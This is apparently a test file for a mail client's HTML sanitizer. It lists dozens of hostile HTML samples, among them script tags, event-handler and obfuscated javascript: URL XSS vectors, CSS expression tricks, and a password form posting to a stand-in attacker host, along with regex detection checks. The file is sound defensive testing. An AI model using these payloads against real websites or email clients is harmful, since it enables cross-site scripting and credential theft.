import * as assert from 'node:assert/strict';
import { sanitizeMessageHtml } from '../../src/protocol/mime/sanitizeHtml';
import { TINY_PNG } from '../fixtures/mimeBuilders';

const PNG_URL = `data:image/png;base64,${TINY_PNG.toString('base64')}`;
const SVG_B64 = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');
const inlineImages = { 'logo@x': PNG_URL, 'evil@x': 'data:image/svg+xml;base64,' + SVG_B64 };

interface Payload {
  name: string;
  html: string;
  /** Exactly the remote URLs the output may fetch. */
  remote?: string[];
  /** Substrings the output must keep. */
  keeps?: string[];
}

/** Hostile (and tracking) HTML; every output must also pass the global checks in assertInert(). */
const PAYLOADS: Payload[] = [
  { name: 'script element', html: '<p>hi</p><script>alert(1)</script>', keeps: ['<p>hi</p>'] },
  { name: 'external script', html: '<SCRIPT SRC=http://evil.test/x.js></SCRIPT><p>t</p>' },
  { name: 'script in attribute-less tag soup', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'body onload', html: '<body onload=alert(1)><p>b</p></body>', keeps: ['<div class="mailroom-body">'] },
  { name: 'onmouseover with style', html: '<div onmouseover="alert(1)" style="color:red">t</div>', keeps: ['style="color:red"'] },
  { name: 'event handler with odd spacing', html: '<img src="https://ok.test/a.png"/onerror=alert(1)>', remote: ['https://ok.test/a.png'] },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r=1 /></svg>' },
  { name: 'svg xlink:href javascript', html: '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>' },
  { name: 'svg animate href', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>' },
  { name: 'svg image remote', html: '<svg><image href="https://svg.test/x.png"/></svg>' },
  { name: 'math mglyph mXSS', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'math href', html: '<math href="javascript:alert(1)"><mi>x</mi></math>' },
  { name: 'javascript link', html: '<a href="javascript:alert(1)">x</a>', keeps: ['<a>x</a>'] },
  { name: 'mixed-case scheme', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'hex entity scheme', html: '<a href="&#x6A;avascript:alert(1)">x</a>' },
  { name: 'decimal entities scheme', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'tab inside scheme', html: '<a href="java\tscript:alert(1)">x</a><a href="java&#x09;script:alert(1)">y</a>' },
  { name: 'newline and &colon; inside scheme', html: '<a href="&#x6A;ava&#x0A;script&colon;alert(1)">x</a>' },
  { name: 'leading control character', html: '<a href=" &#14; javascript:alert(1)">x</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data: HTML link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'data: SVG image', html: `<img src="data:image/svg+xml;base64,${SVG_B64}">` },
  { name: 'data: raster image kept', html: `<img src="${PNG_URL}" alt="dot">`, keeps: [`src="${PNG_URL}"`] },
  { name: 'tracking pixel', html: '<img src="http://track.test/pixel.gif?u=1&amp;m=2" width=1 height=1>', remote: ['http://track.test/pixel.gif?u=1&m=2'] },
  { name: 'srcset', html: '<img srcset="https://a.test/1x.png 1x, https://a.test/2x.png 2x">', remote: ['https://a.test/1x.png', 'https://a.test/2x.png'] },
  { name: 'srcset with javascript and svg candidates', html: `<img srcset="javascript:alert(1) 1x, data:image/svg+xml;base64,${SVG_B64} 2x, https://ok.test/s.png 3x">`, remote: ['https://ok.test/s.png'] },
  { name: 'protocol-relative image', html: '<img src="//cdn.test/p.png">', remote: ['https://cdn.test/p.png'], keeps: ['src="https://cdn.test/p.png"'] },
  { name: 'relative image dropped', html: '<img src="relative/p.png" alt="r">', keeps: ['<img alt="r" />'] },
  { name: 'video poster and source', html: '<video poster="https://p.test/poster.jpg" autoplay><source src="https://p.test/v.mp4"></video>' },
  { name: 'audio autoplay', html: '<audio src="https://a.test/a.mp3" autoplay></audio>' },
  { name: 'table and cell background', html: '<table background="https://bg.test/t.png"><tr><td background="https://bg.test/td.png">x</td></tr></table>', remote: ['https://bg.test/t.png', 'https://bg.test/td.png'] },
  { name: 'body background and colours', html: '<body background="https://bg.test/body.png" bgcolor="#eeeeee" text="navy"><p>b</p></body>', remote: ['https://bg.test/body.png'], keeps: ['background-color: #eeeeee', 'color: navy'] },
  { name: 'javascript background attribute', html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },
  { name: 'CSS url() in style attribute', html: '<div style="background:url(https://css.test/a.png)">x</div>', remote: ['https://css.test/a.png'] },
  { name: 'CSS several url()s with spaces and quotes', html: "<p style=\"background:url(http://a.test/1.png), url( 'https://a.test/2.png' )\">x</p>", remote: ['http://a.test/1.png', 'https://a.test/2.png'] },
  { name: 'CSS entity-quoted url()', html: '<div style="background-image:url(&quot;https://q.test/a.png&quot;)">x</div>', remote: ['https://q.test/a.png'] },
  { name: 'CSS javascript url()', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'CSS expression()', html: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'CSS -moz-binding', html: '<div style="-moz-binding:url(https://x.test/xbl.xml#x); color: red">x</div>', keeps: ['color: red'] },
  { name: 'CSS behavior', html: '<div style="behavior: url(https://x.test/a.htc)">x</div>' },
  { name: 'CSS escape spelling url(', html: '<div style="background:\\75 rl(javascript:alert(1))">x</div>' },
  { name: 'CSS escapes hiding a remote url', html: '<div style="background:u\\72l(h\\74tps://esc.test/a.png)">x</div>', remote: ['https://esc.test/a.png'] },
  { name: 'CSS escaped expression', html: '<div style="width:e\\78pression(alert(1))">x</div>' },
  { name: 'CSS comment splitting url', html: '<div style="background:ur/**/l(https://c.test/x.png); color: red">x</div>', keeps: ['color: red'] },
  { name: 'CSS list-style-image protocol-relative', html: '<ul style="list-style-image:url(//l.test/b.png)"><li>x</li></ul>', remote: ['https://l.test/b.png'] },
  { name: '@import url()', html: '<style>@import url(https://imp.test/a.css);</style><p>x</p>', remote: ['https://imp.test/a.css'] },
  { name: '@import string', html: '<style>@import "https://imp.test/b.css";</style><p>x</p>', remote: ['https://imp.test/b.css'] },
  { name: '@import javascript string', html: "<style>@import 'javascript:alert(1)';</style><p>x</p>" },
  { name: '@font-face src', html: '<style>@font-face{font-family:x;src:url(https://font.test/f.woff2) format("woff2")}</style>', remote: ['https://font.test/f.woff2'] },
  { name: 'image-set strings', html: '<style>.a{background-image:image-set("https://set.test/a.png" 1x, "https://set.test/b.png" 2x)}</style>', remote: ['https://set.test/a.png', 'https://set.test/b.png'] },
  { name: 'style in @media', html: '<style>@media screen{.x{background:url(https://m.test/a.png)}}</style>', remote: ['https://m.test/a.png'] },
  { name: 'style closing trick', html: '<style></style><img src=x onerror=alert(1)></style>' },
  { name: 'style with markup inside', html: '<style>p{color:red}</style ><script>alert(1)</script><style>a{}</style>' },
  { name: 'svg data URL in style', html: "<style>.x{background:url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\")}</style>" },
  { name: 'meta refresh javascript', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>' },
  { name: 'meta refresh remote', html: '<meta http-equiv="refresh" content="0;url=https://evil.test/"><p>x</p>' },
  { name: 'base href', html: '<base href="https://evil.test/"><img src="x.png" alt="b">' },
  { name: 'form with password and button', html: '<form action="https://evil.test/steal"><input name=p type=password><button formaction="https://evil.test/2">Go</button></form>' },
  { name: 'input type=image', html: '<input type="image" src="https://in.test/x.png">' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>after</p>', keeps: ['<p>after</p>'] },
  { name: 'iframe src', html: '<iframe src="https://evil.test/"></iframe>' },
  { name: 'frameset', html: '<frameset><frame src="https://evil.test/f"></frameset>' },
  { name: 'object and embed', html: '<object data="https://evil.test/x.swf"><param name=src value="https://evil.test/p"></object><embed src="https://evil.test/y.swf">' },
  { name: 'applet', html: '<applet code="X.class" codebase="https://evil.test/"></applet>' },
  { name: 'link prefetch and stylesheet', html: '<link rel="prefetch" href="https://evil.test/prefetch"><link rel=stylesheet href="https://evil.test/s.css"><p>x</p>' },
  { name: 'link target and ping', html: '<a href="https://ok.test/" target="_blank" ping="https://ping.test/">ok</a>', keeps: ['<a href="https://ok.test/">ok</a>'] },
  { name: 'noscript', html: '<noscript><img src=x onerror=alert(1)></noscript>' },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'xmp and textarea', html: '<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'unknown cid dropped', html: '<img src="cid:missing@x" alt="m">', keeps: ['<img alt="m" />'] },
  { name: 'cid rewritten to data: URL', html: '<img src="cid:logo@x">', keeps: [`src="${PNG_URL}"`] },
  { name: 'cid pointing to an SVG is not used', html: '<img src="cid:evil@x">' },
  { name: 'lowsrc and dynsrc', html: '<img src="https://a.test/a.png" lowsrc="https://b.test/b.png" dynsrc="https://c.test/c">', remote: ['https://a.test/a.png'] },
  { name: 'picture source', html: '<picture><source srcset="https://pic.test/a.webp"><img src="https://pic.test/a.png"></picture>', remote: ['https://pic.test/a.png'] },
  { name: 'fragment and mailto links kept', html: '<a href="#s">jump</a><a href="mailto:bob@example.test?subject=hi">mail</a>', keeps: ['href="#s"', 'href="mailto:bob@example.test?subject=hi"'] },
];

/** Every URL the markup would fetch: src, srcset candidates, background, CSS url(). */
function fetchedUrls(html: string): string[] {
  const decoded = html.replace(/&quot;/g, '"').replace(/&amp;/g, '&');
  const urls: string[] = [];
  for (const m of decoded.matchAll(/\s(?:src|background)="([^"]*)"/g)) urls.push(m[1]);
  for (const m of decoded.matchAll(/\ssrcset="([^"]*)"/g)) urls.push(...m[1].split(/,\s+/).map((c) => c.trim().split(/\s+/)[0]));
  for (const m of decoded.matchAll(/url\(\s*["']?([^"')]*)/g)) urls.push(m[1]);
  return urls;
}

function assertInert(name: string, html: string): void {
  const checks: Array<[RegExp, string]> = [
    [/<script/i, 'a script element'],
    [/<\/?(iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|base|meta|link|svg|math|video|audio|source|template|noscript|xmp)\b/i, 'a forbidden element'],
    [/\son[a-z]+\s*=/i, 'an event handler attribute'],
    [/javascript:|vbscript:/i, 'a script URL'],
    [/\starget=/i, 'a target attribute'],
    [/expression\s*\(|-moz-binding|behaviou?r\s*:/i, 'a CSS behaviour'],
    [/data:(?!image\/(png|gif|jpeg|webp|bmp)[;,])/i, 'a non-raster data: URL'],
    [/\\/, 'a CSS escape from the message'],
  ];
  for (const [pattern, what] of checks) assert.ok(!pattern.test(html), `${name}: output has ${what}: ${html}`);
}

describe('sanitizeMessageHtml: hostile corpus', () => {
  it(`has at least 40 payloads (${PAYLOADS.length})`, () => {
    assert.ok(PAYLOADS.length >= 40);
  });

  for (const payload of PAYLOADS) {
    it(`makes inert: ${payload.name}`, () => {
      const { html, remoteResources } = sanitizeMessageHtml(payload.html, { inlineImages });
      assertInert(payload.name, html);
      assert.deepEqual(remoteResources, payload.remote ?? [], `${payload.name}: remote resources`);
      // Everything that would be fetched is either listed as remote or an inline raster image.
      for (const url of fetchedUrls(html)) {
        assert.ok(remoteResources.includes(url) || /^data:image\/(png|gif|jpeg|webp|bmp)[;,]/.test(url), `${payload.name}: ${url} fetched but not listed`);
      }
      for (const kept of payload.keeps ?? []) assert.ok(html.includes(kept), `${payload.name}: expected ${kept} in ${html}`);
      // Sanitizing the output again changes nothing: the result is a fixed point, not one parse away from markup.
      assert.equal(sanitizeMessageHtml(html, { inlineImages }).html, html, `${payload.name}: not stable`);
    });
  }
});

describe('sanitizeMessageHtml: presentation', () => {
  it('keeps tables, inline styles, legacy attributes and <style> rules', () => {
    const input = '<html><head><style>.btn { color: #fff; background: #0366d6 }</style></head><body style="margin:0">' +
      '<table width="600" align="center" cellpadding="4" bgcolor="#ffffff" border="0"><tr><td valign="top" style="font-family: Arial; padding: 8px">' +
      '<font face="Georgia" color="#333" size="3">Hello</font> <center>c</center></td></tr></table></body></html>';
    const { html } = sanitizeMessageHtml(input, { inlineImages: {} });
    for (const kept of ['<style>.btn { color: #fff; background: #0366d6 }</style>', 'width="600"', 'align="center"', 'cellpadding="4"', 'bgcolor="#ffffff"', 'valign="top"',
      'style="font-family: Arial; padding: 8px"', '<font face="Georgia" color="#333" size="3">', '<center>c</center>', '<div class="mailroom-body" style="margin:0">']) {
      assert.ok(html.includes(kept), `expected ${kept} in ${html}`);
    }
    assert.ok(!html.includes('<head'), html);
  });

  it('escapes < in <style> text so it cannot end the element', () => {
    const { html } = sanitizeMessageHtml('<style>p::after { font-family: "</p><b>" }</style>', { inlineImages: {} });
    assert.equal(html, '<style>p::after { font-family: "\\3c /p>\\3c b>" }</style>');
  });

  it('lists each remote URL once however often it is used', () => {
    const { remoteResources } = sanitizeMessageHtml('<img src="https://a.test/x.png"><img src="https://a.test/x.png"><div style="background:url(https://a.test/x.png)">x</div>', { inlineImages: {} });
    assert.deepEqual(remoteResources, ['https://a.test/x.png']);
  });
});
